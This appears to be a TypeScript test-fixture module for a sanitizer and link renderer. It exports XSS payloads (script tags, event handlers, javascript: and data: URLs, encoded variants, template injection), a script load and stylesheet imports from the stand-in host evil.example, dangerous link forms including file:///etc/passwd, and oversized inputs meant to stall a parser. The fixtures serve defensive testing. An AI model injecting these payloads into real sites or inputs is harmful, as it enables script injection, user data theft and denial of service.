/** Sets the mark that says: a script of a stranger has run. */
const run = 'window.__x=1'

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT>`,
  `</script><script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${run}</script>`,
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
]

const tags = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'iframe',
  'marquee',
  'object data=x',
]
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover']
const handled = tags.flatMap((tag, at) => [
  `<${tag} ${handlers[at % handlers.length]}=${run}>`,
  `<${tag}/${handlers[(at + 1) % handlers.length]}="${run}">`,
])

const attributes = [
  `" onmouseover="${run}`,
  `' onfocus='${run}' autofocus='`,
  `\` onerror=${run} \``,
  `"style="animation-name:x"onanimationstart="${run}"`,
]

const addresses = [
  `<a href="javascript:${run}">click</a>`,
  `<a href="java&#115;cript:${run}">click</a>`,
  `<a href=" javascript:${run}">click</a>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.__x=1</script>"></iframe>`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<math><mi xlink:href="data:x,<script>${run}</script>"></mi></math>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}/>#x"></use></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<template><img src=x onerror=${run}></template>`,
  `<custom-element onclick=${run}>x</custom-element>`,
]

const otherTongues = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `[click](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `{"type":"img","props":{"src":"x","onError":"${run}"},"key":null,"ref":null}`,
]

/** More than sixty texts that run a script where they are taken for anything but text. None is longer than a name may be. */
export const hostileTexts: readonly string[] = [...scripts, ...handled, ...attributes, ...addresses, ...otherTongues]

/** Texts that must not become a link. */
export const hostileLinks: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'javascript://shop.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'VBSCRIPT:x',
  'file:///etc/passwd',
  'blob:https://shop.example/x',
  'view-source:https://shop.example',
  'https://bank.example@evil.example/',
  'https://аррӏе.example/login',
  'https://shop。example/',
  'https://%65vil.example/',
  'http://2130706433/',
  'http://0x7f.1/',
  '//evil.example/x',
]

/** Texts that become a link, as they are written. */
export const fairLinks: readonly string[] = [
  'https://shop.example/a?b=c#d',
  'http://shop.example:8080/x',
  'www.shop.example',
  'hello@shop.example',
]

const most = 4_000
const fill = (text: string): string => text.repeat(Math.ceil(most / text.length)).slice(0, most)

/** Texts of the greatest length that take a careless reader of links or markdown very long; by name. */
export const textBombs: Readonly<Record<string, string>> = {
  'closing brackets behind a link': `https://a${')'.repeat(most - 9)}`,
  'brackets and dots behind a link': `https://a${fill(').')}`.slice(0, most),
  'dots behind a link': `https://a${'.'.repeat(most - 10)}x`,
  'signs behind a link, twice': `https://a/${`${'!'.repeat(1_900)}x`.repeat(2)}`,
  'one long word': 'a'.repeat(most),
  'a long name and a long host': `${'a'.repeat(2_000)}@${'a'.repeat(1_999)}`,
  'hosts without end': `a@${fill('a.')}`.slice(0, most),
  'names without end': fill('a@a.'),
  'schemes without end': fill('http://'),
  'quotes nested': fill('> '),
  'lists nested': fill('- '),
  'stars nested': fill('**_'),
  'square brackets nested': fill('[['),
  'images nested': fill('![a]('),
  backticks: fill('`'),
  'line breaks': fill('\n'),
  'marks on one letter': `a${'\u0301'.repeat(most - 1)}`,
}
